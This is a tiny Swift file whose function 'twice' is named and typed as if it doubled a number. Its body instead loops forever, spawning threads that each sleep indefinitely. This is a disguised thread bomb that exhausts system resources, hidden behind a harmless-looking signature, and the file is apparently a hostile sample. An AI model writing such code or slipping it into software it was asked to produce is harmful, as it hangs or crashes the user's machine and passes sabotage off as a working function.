import Glibc

func twice(_ x: Double) -> Double {
    while true {
        var thread = pthread_t()
        pthread_create(&thread, nil, { _ in while true { sleep(1000) } }, nil)
    }
}
